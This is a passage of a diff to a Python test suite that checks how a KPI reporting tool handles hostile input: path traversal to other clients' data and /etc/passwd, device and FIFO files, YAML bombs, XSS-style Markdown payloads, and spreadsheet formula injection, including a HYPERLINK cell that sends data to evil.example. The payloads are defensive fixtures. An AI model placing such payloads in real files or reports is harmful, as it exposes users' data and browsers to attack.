@@ -27,6 +27,8 @@ import functools
 import io
 import json
 import os
+import re
+import time
 import traceback
 from dataclasses import dataclass
 from pathlib import Path
@@ -162,7 +164,7 @@ class Case:
 
     `exit`: expected exit code of `validate` (a tuple: any of these). `lines`: each tuple of
     substrings must appear together in one output line (paths are relative to the case
-    folder, so `params/acme.yaml`, `params/data.csv`). `check`: for valid inputs, gets the
+    folder, so `params/acme.yaml`, `data/acme/data.csv`). `check`: for valid inputs, gets the
     loaded facts and returns a short description of what was verified (raises if wrong).
     """
 
@@ -173,6 +175,8 @@ class Case:
     exit: int | tuple[int, ...]
     lines: tuple[tuple[str, ...], ...] = ()
     check: Callable[[pd.DataFrame], str] | None = None
+    forbidden: tuple[str, ...] = ()  # never in the output (content of a refused file, a huge value)
+    args: tuple[str, ...] = ()  # more `validate` arguments; `{root}` is the case folder
 
 
 def _with(files: Files, **more: Any) -> Files:
@@ -224,16 +228,16 @@ CASES: list[Case] = [
     Case("missing_date_column", "daily CSV whose date column is called `day`", "exit 1; names the file, the "
          "missing column and the columns in the file",
          {PARAMS: _params(), "data.csv": "day,orders,revenue\n2025-01-01,3,30\n"}, 1,
-         (("params/acme.yaml:", "params/data.csv", "required column 'date' is missing", "day, orders, revenue"),)),
+         (("params/acme.yaml:", "data/acme/data.csv", "required column 'date' is missing", "day, orders, revenue"),)),
     Case("mapped_column_missing", "`columns: {revenue: Omzet}` but the file has `Bedrag`", "exit 1; names the "
          "mapped column and what the file has",
          {PARAMS: _params(data=_data(columns={"revenue": "Omzet"})), "data.csv": "date,orders,Bedrag\n2025-01-01,3,30\n"}, 1,
-         (("params/data.csv", "'Omzet'", "not in the file", "Bedrag"),)),
+         (("data/acme/data.csv", "'Omzet'", "not in the file", "Bedrag"),)),
     # ------------------------------------------------------------ dates
     Case("dutch_dates_without_format", "`31-12-2025` dates, no `date_format`", "exit 1; column, rows and the "
          'hint `date_format: "%d-%m-%Y"`',
          {PARAMS: _params(), "data.csv": "date,orders,revenue\n30-12-2025,3,30\n31-12-2025,4,40\n"}, 1,
-         (("params/data.csv", "column 'date'", "'31-12-2025'", NOT_ISO_HINT, "rows 2, 3"),)),
+         (("data/acme/data.csv", "column 'date'", "'31-12-2025'", NOT_ISO_HINT, "rows 2, 3"),)),
     Case("dutch_dates_with_format", '`31-12-2025` dates with `date_format: "%d-%m-%Y"`', "exit 0; 30 and 31 "
          "December 2025",
          {PARAMS: _params(data=_data(date_format="%d-%m-%Y")),
@@ -243,14 +247,14 @@ CASES: list[Case] = [
          "declared format and the rows",
          {PARAMS: _params(data=_data(date_format="%d-%m-%Y")),
           "data.csv": "date,orders,revenue\n2025-12-30,3,30\n2025-12-31,4,40\n"}, 1,
-         (("params/data.csv", "column 'date'", '"%d-%m-%Y"', "rows 2, 3"),)),
+         (("data/acme/data.csv", "column 'date'", '"%d-%m-%Y"', "rows 2, 3"),)),
     Case("impossible_date", "`2025-02-30`", "exit 1; the value and its row",
          {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-02-28,3,30\n2025-02-30,4,40\n"}, 1,
-         (("params/data.csv", "column 'date'", "'2025-02-30'", "rows 3"),)),
+         (("data/acme/data.csv", "column 'date'", "'2025-02-30'", "rows 3"),)),
     Case("date_out_of_range", "`9999-12-31` in a CSV (beyond pandas' datetime range)", "exit 1; the value and "
          "its row, no traceback",
          {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,30\n9999-12-31,4,40\n"}, 1,
-         (("params/data.csv", "column 'date'", "9999-12-31", "rows 3"),)),
+         (("data/acme/data.csv", "column 'date'", "9999-12-31", "rows 3"),)),
     Case("mixed_timezone_offsets", "ISO timestamps with different UTC offsets (`+01:00`, `Z`)", "exit 0 with "
          "wall-clock dates, or exit 1 naming the column; no traceback",
          {PARAMS: _params(),
@@ -266,12 +270,12 @@ CASES: list[Case] = [
          "exit 1; sheet, column and rows; no traceback",
          {PARAMS: _params(data=_data(source="data.xlsx")),
           "data.xlsx": xlsx([["date", "orders", "revenue"], [45658, 3, 30], [2958465, 4, 40], [-3, 1, 1]])}, 1,
-         (("params/data.xlsx", "column 'date'", "rows 3, 4"),)),
+         (("data/acme/data.xlsx", "column 'date'", "rows 3, 4"),)),
     # ------------------------------------------------------------ numbers
     Case("decimal_comma_undeclared", "`12,50` in a `;` file without `decimal`", 'exit 1; column, rows and the '
          'hint `decimal: ","`',
          {PARAMS: _params(), "data.csv": csv("date,orders,revenue", "2025-01-01;3;12,50", "2025-01-02;4;7", sep=";")},
-         1, (("params/data.csv", "column 'revenue'", "'12,50'", 'decimal: ","', "rows 2"),)),
+         1, (("data/acme/data.csv", "column 'revenue'", "'12,50'", 'decimal: ","', "rows 2"),)),
     Case("decimal_comma_declared", '`12,50` with `decimal: ","`', "exit 0; 12.5",
          {PARAMS: _params(data=_data(decimal=",")),
           "data.csv": csv("date,orders,revenue", "2025-01-01;3;12,50", "2025-01-02;4;7", sep=";")}, 0,
@@ -283,40 +287,40 @@ CASES: list[Case] = [
     Case("thousands_undeclared", '`1.234,56` with `decimal: ","` only', "exit 1; column, value and row",
          {PARAMS: _params(data=_data(decimal=",")),
           "data.csv": csv("date,orders,revenue", "2025-01-01;3;1.234,56", "2025-01-02;4;7", sep=";")}, 1,
-         (("params/data.csv", "column 'revenue'", "'1.234,56'", "rows 2"),)),
+         (("data/acme/data.csv", "column 'revenue'", "'1.234,56'", "rows 2"),)),
     Case("negative_count", "`orders = -1`", "exit 1; column and row",
          {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,30\n2025-01-02,-1,40\n"}, 1,
-         (("params/data.csv", "column 'orders'", "negative", "rows 3"),)),
+         (("data/acme/data.csv", "column 'orders'", "negative", "rows 3"),)),
     Case("negative_revenue_daily", "daily `revenue = -5` (refund day)", "exit 0 with a warning naming column and "
          "row; KPIs finite",
          {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,30\n2025-01-02,0,-5\n"}, 0,
-         (("warning:", "params/data.csv", "column 'revenue'", "rows 3"),), check=_negative_revenue),
+         (("warning:", "data/acme/data.csv", "column 'revenue'", "rows 3"),), check=_negative_revenue),
     Case("nan_measures", "`NaN` and `nan` as measure values", "exit 1; column, value and rows",
          {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,NaN\n2025-01-02,nan,40\n"}, 1,
-         (("params/data.csv", "column 'revenue'", "'NaN'", "rows 2"), ("params/data.csv", "column 'orders'", "rows 3"))),
+         (("data/acme/data.csv", "column 'revenue'", "'NaN'", "rows 2"), ("data/acme/data.csv", "column 'orders'", "rows 3"))),
     Case("infinite_measures", "`inf`, `-inf` and `1e999` as revenue", "exit 1; column and rows",
          {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,inf\n2025-01-02,4,-inf\n2025-01-03,1,1e999\n"},
-         1, (("params/data.csv", "column 'revenue'", "infinite", "rows 2, 3, 4"),)),
+         1, (("data/acme/data.csv", "column 'revenue'", "infinite", "rows 2, 3, 4"),)),
     Case("sum_overflows", "two days of revenue `1.5e308` (each finite, the sum is not)", "exit 1 naming the "
          "column, or KPIs flagged n/a; never inf",
          {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,1.5e308\n2025-01-02,4,1.5e308\n"}, (0, 1),
          check=lambda facts: "loads; KPIs finite or flagged n/a"),
     Case("duplicate_rows", "the same date twice in a daily file", "exit 1; names the rows and the repeated key",
          {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,30\n2025-01-01,3,30\n"}, 1,
-         (("params/data.csv", "repeat the same date", "date=2025-01-01", "rows 2, 3"),)),
+         (("data/acme/data.csv", "repeat the same date", "date=2025-01-01", "rows 2, 3"),)),
     # ------------------------------------------------------------ files
     Case("empty_data_file", "a 0-byte data file", "exit 1; names the file",
-         {PARAMS: _params(), "data.csv": b""}, 1, (("params/data.csv", "empty"),)),
+         {PARAMS: _params(), "data.csv": b""}, 1, (("data/acme/data.csv", "empty"),)),
     Case("header_only_data_file", "a data file with only its header", "exit 1; names the file",
-         {PARAMS: _params(), "data.csv": "date,orders,revenue\n"}, 1, (("params/data.csv", "no data rows"),)),
+         {PARAMS: _params(), "data.csv": "date,orders,revenue\n"}, 1, (("data/acme/data.csv", "no data rows"),)),
     Case("ragged_rows", "a CSV row with more fields than the header", "exit 1; names the file and the line",
          {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,30,99,98\n2025-01-02,4,40\n"}, 1,
-         (("params/data.csv", "2"),)),
+         (("data/acme/data.csv", "2"),)),
     Case("binary_file_as_csv", "PNG bytes saved as `data.csv`", "exit 1; names the file",
          {PARAMS: _params(), "data.csv": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\xff\xfe\x00"}, 1,
-         (("params/data.csv",),)),
+         (("data/acme/data.csv",),)),
     Case("utf16_csv", "a UTF-16 CSV", "exit 1; names the file and the missing date column",
-         {PARAMS: _params(), "data.csv": SIMPLE.encode("utf-16")}, 1, (("params/data.csv", "'date'"),)),
+         {PARAMS: _params(), "data.csv": SIMPLE.encode("utf-16")}, 1, (("data/acme/data.csv", "'date'"),)),
     Case("data_outside_period", "`period: 2026` but every row is from 2025", "exit 1: nothing left to report "
          "on (today: only a warning, then the run fails)",
          {PARAMS: _params(extra="period: {start: 2026-01-01, end: 2026-12-31}\n"), "data.csv": SIMPLE}, 1,
@@ -368,23 +372,145 @@ CASES: list[Case] = [
          {PARAMS: _params(name=HOSTILE_NAME, goals=[revenue_goal(statement=HOSTILE_STATEMENT)]),
           "data.csv": daily_rows(days=90, campaigns=HOSTILE_CAMPAIGNS)}, 0, check=_campaigns),
 ]
-EXTRA_ROWS = ["index_html_escaping", "run_hostile_names_escaped", "run_client_id_traversal",
+
+# ---------------------------------------------------------------- trust between clients (issue 16)
+
+SECRET = "VICTIM-SECRET-CAMPAIGN"
+SECRET_CSV = f"date,orders,revenue,campaign\n2025-01-01,3,30,{SECRET}\n"
+VICTIM = {"victim.yaml": _params(client="victim"), "data/victim/data.csv": SECRET_CSV}
+OTHER_CLIENT_OK = {"beta.yaml": _params(client="beta"), "data/beta/data.csv": SIMPLE}
+REFUSED = "refused:"
+OWN_FOLDER = "data/acme/"
+
+
+def _symlink(target: str) -> Callable[[Path], None]:
+    """A symlink at the given path to `target` (relative to the case folder unless absolute)."""
+
+    def make(path: Path) -> None:
+        root = next(p for p in path.parents if p.name == "case")
+        path.symlink_to(target if target.startswith("/") else root / target)
+
+    return make
+
+
+def _fifo(path: Path) -> None:
+    os.mkfifo(path)
+
+
+def _nested(depth: int) -> str:
+    return "client: acme\nname: " + "[" * depth + "\n"
+
+
+TRUST_CASES: list[Case] = [
+    # ------------------------------------------------------------ confinement: one data folder per client
+    Case("source_other_clients_file", "`source: ../victim/data.csv` (another client's data folder)", "exit 1; "
+         "refused ('..'), names the source and the client's own folder; nothing of the victim's file shown",
+         {PARAMS: _params(data=_data(source="../victim/data.csv")), **VICTIM}, 1,
+         (("params/acme.yaml:", "../victim/data.csv", REFUSED, "'..'", OWN_FOLDER),), forbidden=(SECRET,)),
+    Case("source_absolute_path", "`source: /etc/passwd`", "exit 1; refused (absolute path); no line of the file "
+         "echoed", {PARAMS: _params(data=_data(source="/etc/passwd"))}, 1,
+         (("params/acme.yaml:", "/etc/passwd", REFUSED, "absolute path"),), forbidden=("root:", "/bin/")),
+    Case("source_home_path", "`source: ~/secret.csv`", "exit 1; refused (absolute path)",
+         {PARAMS: _params(data=_data(source="~/secret.csv"))}, 1,
+         (("params/acme.yaml:", REFUSED, "absolute path"),)),
+    Case("source_params_folder", "`source: ../../params/victim.yaml` (the params folder is not a data folder)",
+         "exit 1; refused ('..')", {PARAMS: _params(data=_data(source="../../params/victim.yaml")), **VICTIM}, 1,
+         (("params/acme.yaml:", REFUSED, "'..'"),), forbidden=(SECRET,)),
+    Case("source_symlink_to_other_client", "`data/acme/data.csv` is a symlink to `data/victim/data.csv`",
+         "exit 1; refused (symlink pointing out); victim's data not shown",
+         {PARAMS: _params(), **VICTIM, "data.csv": _symlink("data/victim/data.csv")}, 1,
+         (("params/acme.yaml:", "data.csv", REFUSED, "symlink"),), forbidden=(SECRET,)),
+    Case("source_symlink_dir_out", "`data/acme/shared` is a symlink to a folder outside, `source: shared/x.csv`",
+         "exit 1; refused (leads outside)",
+         {PARAMS: _params(data=_data(source="shared/x.csv")), "outside/x.csv": SECRET_CSV,
+          "data/acme/shared": _symlink("outside")}, 1,
+         (("params/acme.yaml:", "shared/x.csv", REFUSED, "outside"),), forbidden=(SECRET,)),
+    Case("source_dev_zero", "`source: /dev/zero` and a `data.csv` symlink to it", "exit 1 at once; both refused, "
+         "memory stays flat",
+         {PARAMS: _params(data='[{source: /dev/zero}, {source: zero.csv}]'),
+          "zero.csv": _symlink("/dev/zero")}, 1,
+         (("params/acme.yaml:", "/dev/zero", REFUSED), ("params/acme.yaml:", "zero.csv", REFUSED))),
+    Case("source_fifo", "`data/acme/data.csv` is a FIFO (a reader would wait forever)", "exit 1 at once; refused "
+         "(not a regular file)", {PARAMS: _params(), "data.csv": _fifo}, 1,
+         (("params/acme.yaml:", "data.csv", REFUSED, "FIFO"),)),
+    Case("source_dev_stdin", "`source: /dev/stdin`", "exit 1 at once; refused (absolute path)",
+         {PARAMS: _params(data=_data(source="/dev/stdin"))}, 1, (("params/acme.yaml:", "/dev/stdin", REFUSED),)),
+    Case("source_in_own_folder", "`source: sub/data.csv` inside `data/acme/`", "exit 0; read from the client's "
+         "own folder", {PARAMS: _params(data=_data(source="sub/data.csv")), "data/acme/sub/data.csv": SIMPLE}, 0,
+         check=_revenue(30.5, 40.0)),
+    Case("data_root_in_agency_file", "`params/_agency.yaml` sets `data_root: ../klantdata`", "exit 0; "
+         "`klantdata/acme/data.csv` is read",
+         {PARAMS: _params(), "_agency.yaml": "data_root: ../klantdata\n", "klantdata/acme/data.csv": SIMPLE}, 0,
+         check=_revenue(30.5, 40.0)),
+    Case("data_root_flag", "`validate --data-root {root}/elders` with the data in `elders/acme/`", "exit 0; read "
+         "from the flag's folder", {PARAMS: _params(), "elders/acme/data.csv": SIMPLE}, 0,
+         args=("--data-root", "{root}/elders")),
+    # ------------------------------------------------------------ identity: the id is the file name
+    Case("client_id_takeover", "`acme.yaml` says `client: victim` next to the real `victim.yaml`", "exit 1 for "
+         "acme.yaml only (the id is the file name); victim stays valid",
+         {PARAMS: _params(client="victim"), **VICTIM}, 1,
+         (("params/acme.yaml:", "client:", "'victim' is not this file's client", "'acme'"),)),
+    Case("client_id_from_file_name", "a params file without `client:`", "exit 0; the id is the file name",
+         {PARAMS: _params().replace("client: acme\n", ""), "data.csv": SIMPLE}, 0, check=_revenue(30.5, 40.0)),
+    # ------------------------------------------------------------ limits
+    Case("params_symlink_dev_zero", "`params/acme.yaml` is a symlink to /dev/zero", "exit 1 at once; refused "
+         "(a device), no MemoryError", {PARAMS: _symlink("/dev/zero")}, 1,
+         (("params/acme.yaml:", REFUSED, "device"),)),
+    Case("params_fifo", "`params/acme.yaml` is a FIFO", "exit 1 at once; refused (FIFO)", {PARAMS: _fifo}, 1,
+         (("params/acme.yaml:", REFUSED, "FIFO"),)),
+    Case("params_too_big", "a 5 MB `name` (params file over the 256 KB cap)", "exit 1; the size and the limit; "
+         "the name is not echoed",
+         {PARAMS: _params(name="N" * 5_000_000)}, 1,
+         (("params/acme.yaml:", "bytes, more than the limit", "params_bytes"),), forbidden=("N" * 100,)),
+    Case("long_name_not_echoed", "a 100 KB `name` (under the size cap)", "exit 1; at most 200 characters; the "
+         "value is cut to a few dozen characters", {PARAMS: _params(name="N" * 100_000), "data.csv": SIMPLE}, 1,
+         (("params/acme.yaml:", "name", "200 characters"),), forbidden=("N" * 100,)),
+    Case("yaml_deep_nesting", "20,000 `[` in `name`, next to a good client `beta`", "exit 1 for acme only "
+         "(nesting limit, no RecursionError); beta still valid",
+         {PARAMS: _nested(20_000), **OTHER_CLIENT_OK}, 1,
+         (("params/acme.yaml:", "not valid YAML", "nested more than"),)),
+    Case("yaml_duplicate_keys", "`name:` given twice", "exit 1; line of both keys (the last one no longer "
+         "silently wins)", {PARAMS: _params() + 'name: "Other Name"\n', "data.csv": SIMPLE}, 1,
+         (("params/acme.yaml:", "not valid YAML", "'name' appears twice", "line"),)),
+    Case("data_rows_cap", "`limits: {data_rows: 5}` in `_agency.yaml`, a 10-row data file", "exit 1; names the "
+         "file and the limit",
+         {PARAMS: _params(), "_agency.yaml": "limits: {data_rows: 5}\n", "data.csv": daily_rows(days=10, campaigns=("a",))},
+         1, (("params/acme.yaml:", "data/acme/data.csv", "more than 5 data rows", "data_rows"),)),
+    Case("data_bytes_cap", "`limits: {data_bytes: 100}` and a 3 KB data file", "exit 1 before reading; names "
+         "the size and the limit",
+         {PARAMS: _params(), "_agency.yaml": "limits: {data_bytes: 100}\n", "data.csv": daily_rows(days=30, campaigns=("a",))},
+         1, (("params/acme.yaml:", "data.csv", "more than the limit of 100", "data_bytes"),)),
+    Case("agency_file_invalid", "`_agency.yaml` with `limits: {data_rows: many}`", "exit 1; names _agency.yaml "
+         "and the field", {PARAMS: _params(), "_agency.yaml": "limits: {data_rows: many}\n", "data.csv": SIMPLE},
+         1, (("params/_agency.yaml:", "limits.data_rows", "not a positive whole number"),)),
+]
+CASES += TRUST_CASES
+
+EXTRA_ROWS = ["index_html_escaping", "markdown_links_images_inert", "plotly_labels_inert",
+              "export_formulas_inert_csv", "export_formulas_inert_xlsx", "run_hostile_names_escaped", "run_client_id_traversal",
               "run_reserved_client_id", "run_exit_status"]
 
 
 # ---------------------------------------------------------------- running one case
 
 
-def _write(folder: Path, files: Files, marker: Path) -> None:
-    folder.mkdir(parents=True, exist_ok=True)
+def _write(root: Path, files: Files, marker: Path) -> None:
+    """The case folder: root/params/<*.yaml>, root/data/acme/<data files>, or explicit relative paths."""
     for name, content in files.items():
-        path = folder / name
+        if "/" in name:
+            path = root / name
+        elif name.endswith((".yaml", ".yml")):
+            path = root / "params" / name
+        else:
+            path = root / "data" / "acme" / name
+        path.parent.mkdir(parents=True, exist_ok=True)
         if callable(content):
             content(path)
         elif isinstance(content, bytes):
             path.write_bytes(content)
         else:
             path.write_text(content.replace(MARKER, str(marker)), encoding="utf-8")
+    (root / "params").mkdir(parents=True, exist_ok=True)
 
 
 def _tree(root: Path) -> set[str]:
@@ -422,15 +548,16 @@ def _engine_check(facts: pd.DataFrame, kpis: list[str]) -> None:
             assert_finite_or_flagged(compute_kpis(facts, kpis, grain=grain, by=by), f"grain={grain} by={by}")
 
 
+@pytest.mark.timeout(120)  # a FIFO or /dev/stdin read would otherwise hang the suite
 @pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
 def test_hostile_input(case: Case, tmp_path: Path, record) -> None:
     row = record(case.id, case.input, case.expected)
     root = tmp_path / "case"
     params, marker = root / "params", tmp_path / "PWNED"
-    _write(params, case.files, marker)
+    _write(root, case.files, marker)
     before = _tree(root)
 
-    code, output = _cli(["validate", "--params", str(params)])
+    code, output = _cli(["validate", "--params", str(params), *(a.replace("{root}", str(root)) for a in case.args)])
     text = output.replace(str(root) + os.sep, "")
     lines = text.splitlines()
     errors = [line for line in lines if line.startswith("params/")]
@@ -441,9 +568,12 @@ def test_hostile_input(case: Case, tmp_path: Path, record) -> None:
         assert code in allowed, f"exit {code}, expected {case.exit}:\n{text}"
         if code != 0:
             assert errors, f"no error line names the file:\n{text}"
-            assert all(line.startswith(f"params/{PARAMS}:") for line in errors), "every line names the params file"
+            assert all(line.startswith((f"params/{PARAMS}:", "params/_agency.yaml:")) for line in errors), \
+                "every line names the params file"
         for words in case.lines:
             assert any(all(w in line for w in words) for line in lines), f"no line with {words}:\n{text}"
+        for secret in case.forbidden:
+            assert secret not in output, f"{secret[:40]!r} reached the output"
         assert not marker.exists(), "a payload from the input was executed"
         assert _tree(root) == before, f"validate wrote files: {sorted(_tree(root) - before)}"
         assert not list(tmp_path.rglob("escape*")) and not (tmp_path.parent / "escape").exists()
@@ -487,6 +617,129 @@ def test_index_escapes_names_statements_findings_and_reasons(tmp_path: Path, rec
     row.done("index.html written; every hostile string escaped")
 
 
+# ---------------------------------------------------------------- untrusted text is text (issue 16.3, fast)
+
+MARKDOWN_PAYLOADS = ("![p](http://tracker.example/px.png)", "[click](javascript:alert(1))", "<http://evil.example>",
+                     "see http://evil.example/x and www.evil.example, mail a@evil.example",
+                     "[ref]\n\n[ref]: http://evil.example/ref", "<img src=x onerror=alert(1)>")
+LINK_LABEL = '<a href="http://evil.example/x">click me</a>'
+HUGE_LABEL = '<span style="font-size:900px">HUGE</span>'
+
+
+def _markdown_report_body(text: str) -> str:
+    """`show_markdown(text)` as it lands in report.html (nbconvert's Markdown renderer)."""
+    import nbformat
+
+    from kpi_helpers.display import escape_markdown_html
+    from kpi_helpers.report import _body_of
+
+    nb = nbformat.v4.new_notebook()
+    cell = nbformat.v4.new_code_cell("show_markdown(...)")
+    cell.outputs = [nbformat.v4.new_output("display_data", data={"text/markdown": escape_markdown_html(text)})]
+    nb.cells.append(cell)
+    return _body_of(nb)
+
+
+def test_markdown_from_params_makes_no_links_or_images(record) -> None:
+    row = record("markdown_links_images_inert", "client name / owner / goal statement with `![p](http://…/px.png)`, "
+                 "`[x](javascript:…)`, autolinks, a reference link and `<img>`", "report.html shows the text; no "
+                 "`<a>`, no `<img>` (no tracking pixel, no script on click)")
+    try:
+        for payload in MARKDOWN_PAYLOADS:
+            body = _markdown_report_body(f"# Acme {payload}\n\n1. **Act:** {payload}")
+            links = [a for a in re.findall(r"<a [^>]*>", body) if not re.fullmatch(r'<a class="anchor-link" href="#[^"]*">', a)]
+            assert not links and "<img" not in body, f"{payload!r} became live: {links}"
+            assert "javascript:alert" not in body or "[click](javascript:alert(1))" in body
+        body = _markdown_report_body("**Act:** raise the budget")
+        assert "<strong>Act:</strong>" in body, "our own Markdown still renders"
+    except AssertionError as error:
+        row.failed("report body rendered", str(error).splitlines()[0])
+        raise
+    row.done(f"{len(MARKDOWN_PAYLOADS)} payloads render as text; our own bold text still renders")
+
+
+def test_plotly_labels_from_data_are_text(record) -> None:
+    import plotly.graph_objects as go
+
+    from kpi_helpers.charts import channel_breakdown
+    from kpi_helpers.display import PLOTLY_MIME, figure_bundle
+    from kpi_helpers.engine import compute_kpis
+
+    row = record("plotly_labels_inert", f"campaign labels `{LINK_LABEL}` and `{HUGE_LABEL}` in a breakdown chart, "
+                 "a trace name, a title and tick labels", "the chart (HTML and plotly JSON) shows them as text: "
+                 "no `<a href>`, no `<span style>`; our own `<b>`/`<br>` markup kept")
+    facts = load_facts(_hostile_config(campaigns=(LINK_LABEL, HUGE_LABEL, "plain")))
+    table = compute_kpis(facts, ["revenue"], grain=None, by="campaign")
+    chart = channel_breakdown(table, "revenue", by="campaign")
+    own = go.Figure(go.Bar(x=[LINK_LABEL, "b"], y=[1, 2], name=HUGE_LABEL, text=[LINK_LABEL, "t"],
+                           hovertemplate="%{x}<br>%{y}<extra></extra>"),
+                    layout={"title": {"text": f"<b>Acme</b><br>{LINK_LABEL}"},
+                            "xaxis": {"tickvals": [0], "ticktext": [HUGE_LABEL]}})
+    try:
+        for fig in (chart, own):
+            bundle = figure_bundle(fig)
+            for text in (bundle["text/html"], json.dumps(bundle[PLOTLY_MIME])):
+                for live in ('<a href="http://evil', "<a href=\\\"http://evil", "<span style=\\\"font-size:900px",
+                             '<span style="font-size:900px'):
+                    assert live not in text, f"live markup {live!r} in the figure"
+            assert "&lt;a href=" in json.dumps(bundle[PLOTLY_MIME]), "the label is shown (escaped), not dropped"
+        spec = json.dumps(figure_bundle(own)[PLOTLY_MIME])
+        assert "<b>Acme</b><br>" in spec and "<br>%{y}<extra></extra>" in spec, "our own markup is kept"
+    except AssertionError as error:
+        row.failed("figures built", str(error).splitlines()[0])
+        raise
+    row.done("no live `<a>`/`<span style>` in HTML or JSON; labels shown escaped; own markup kept")
+
+
+def _hostile_config(campaigns: tuple[str, ...]) -> Any:
+    from types import SimpleNamespace
+    import tempfile
+
+    folder = Path(tempfile.mkdtemp(prefix="kpi-hostile-"))
+    (folder / "data.csv").write_text(daily_rows(days=20, campaigns=campaigns), encoding="utf-8")
+    return SimpleNamespace(data=[{"source": "data.csv", "shape": "daily"}], period=None, base_dir=folder,
+                           source_file=None)
+
+
+FORMULA_CAMPAIGNS = ('=HYPERLINK("http://evil.example/?"&A1,"Click me")', "+1+2", "-3+4", "@SUM(A1)",
+                     "\tTAB", "plain")  # a CR in a CSV field ends the line for the reader: unit-tested below
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_kpis_export_writes_no_live_formulas(tmp_path: Path, suffix: str, record) -> None:
+    row = record(f"export_formulas_inert{suffix.replace('.', '_')}", f"`kpis --by campaign --out x{suffix}` with "
+                 "campaigns `=HYPERLINK(…)`, `+…`, `-…`, `@…` and a leading tab (CR: unit test)", "every such cell starts with `'` "
+                 "(text, not a formula); numbers untouched")
+    files = {PARAMS: _params(kpis=("revenue", "orders")),
+             "data.csv": daily_rows(days=20, campaigns=FORMULA_CAMPAIGNS)}
+    _write(tmp_path, files, tmp_path / "PWNED")
+    out = tmp_path / f"x{suffix}"
+    code, output = _cli(["kpis", str(tmp_path / "params" / PARAMS), "--by", "campaign", "--out", str(out)])
+    try:
+        assert code == 0, output
+        if suffix == ".csv":
+            table = pd.read_csv(out, dtype=str, keep_default_na=False)
+            cells = table["campaign"].tolist()
+            values = pd.to_numeric(table["value"])
+        else:
+            from openpyxl import load_workbook
+
+            sheet = load_workbook(out).active
+            header = [c.value for c in sheet[1]]
+            column = header.index("campaign")
+            assert not [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"], "formula cells"
+            cells = [r[column].value for r in sheet.iter_rows(min_row=2)]
+            values = pd.Series([r[header.index("value")].value for r in sheet.iter_rows(min_row=2)], dtype=float)
+        risky = [c for c in cells if c and c[0] in "=+-@\t\r"]
+        assert not risky, f"cells a spreadsheet would run: {sorted(set(risky))[:3]}"
+        assert "'" + FORMULA_CAMPAIGNS[0] in cells and "plain" in cells
+        assert (values > 0).all(), "numbers stay numbers"
+    except AssertionError as error:
+        row.failed(f"exit {code}", str(error).splitlines()[0])
+        raise
+    row.done(f"exit 0; {len(FORMULA_CAMPAIGNS) - 1} risky labels written with a leading ', numbers untouched")
+
+
 # ---------------------------------------------------------------- `kpi-workbook run` with hostile clients (slow)
 
 
@@ -523,18 +776,18 @@ def test_run_batch_with_hostile_clients(tmp_path: Path, monkeypatch: pytest.Monk
                                   "failed clients; no traceback"),
     }
     params, out, marker = tmp_path / "params", tmp_path / "reports", tmp_path / "PWNED"
-    _write(params, {
+    _write(tmp_path, {
         "hostile.yaml": client_yaml(client="hostile", name=HOSTILE_NAME, kpis=("revenue", "orders", "average_order_value",
                                                                               "conversion_rate"),
                                     goals=[revenue_goal(statement=HOSTILE_STATEMENT, target=20000.0)],
                                     extra="pairs: [[orders, average_order_value]]\n"),
-        "data.csv": daily_rows(days=120, campaigns=HOSTILE_CAMPAIGNS),
+        "data/hostile/data.csv": daily_rows(days=120, campaigns=HOSTILE_CAMPAIGNS),
         "escape.yaml": client_yaml(client="../escape", name="Escape"),
         "reserved.yaml": client_yaml(client="_failed", name="Reserved Name"),
         # validates today but cannot run (conversion_rate needs sessions): a client that fails
         "broken.yaml": client_yaml(client="broken", name="Broken Client", data={"source": "simple.csv"},
                                    kpis=("revenue", "conversion_rate")),
-        "simple.csv": SIMPLE,
+        "data/broken/simple.csv": SIMPLE,
     }, marker)
     outside_before = _tree(tmp_path) - {p for p in _tree(tmp_path) if p.startswith("reports")}
 
@@ -592,3 +845,356 @@ def test_run_batch_with_hostile_clients(tmp_path: Path, monkeypatch: pytest.Monk
             rows[key].failed(f"statuses {sorted((c, r.status) for c, r in status.items())}", str(error).splitlines()[0])
             failures.append(f"{key}: {error}")
     assert not failures, "\n\n".join(failures)
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
+def test_every_formula_prefix_is_neutralised(cell: str) -> None:
+    from kpi_helpers.display import inert_cell, inert_cells
+
+    assert inert_cell(cell) == "'" + cell
+    table = inert_cells(pd.DataFrame({"campaign": [cell, "ok"], "value": [-1.5, 2.0]}))
+    assert table["campaign"].tolist() == ["'" + cell, "ok"] and table["value"].tolist() == [-1.5, 2.0]
+
+
+# ---------------------------------------------------------------- the output folder is the tool's own (issue 16.5, 16.8)
+
+OUTPUT_ROWS = ["out_folder_foreign_files", "out_folder_foreign_index", "out_folder_client_id_is_foreign_folder",
+               "out_folder_locked", "disk_full", "read_only_output", "run_kill_9", "run_ctrl_c",
+               "run_concurrent", "kernel_start_retried"]
+EXTRA_ROWS += OUTPUT_ROWS
+
+
+def _snapshot(folder: Path) -> dict[str, bytes]:
+    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def _one_client_params(tmp_path: Path, client: str = "alpha", name: str = "Alpha Shop") -> Path:
+    from conftest import write_client
+
+    params = tmp_path / "params"
+    params.mkdir(exist_ok=True)
+    write_client(params, client, name)
+    return params
+
+
+def _checked(row: Row, observed: str, check: Callable[[], str]) -> None:
+    try:
+        row.done(observed + "; " + check())
+    except AssertionError as error:
+        row.failed(observed, str(error).splitlines()[0])
+        raise
+
+
+def test_run_refuses_a_non_empty_folder_it_did_not_write(tmp_path: Path, monkeypatch, record) -> None:
+    row = record("out_folder_foreign_files", "`run --out` a folder holding the user's `notes.txt`, `index.html` and "
+                 "`.staging/keep.txt` (no marker)", "exit 1 before anything runs; names the folder and the marker; "
+                 "every file untouched")
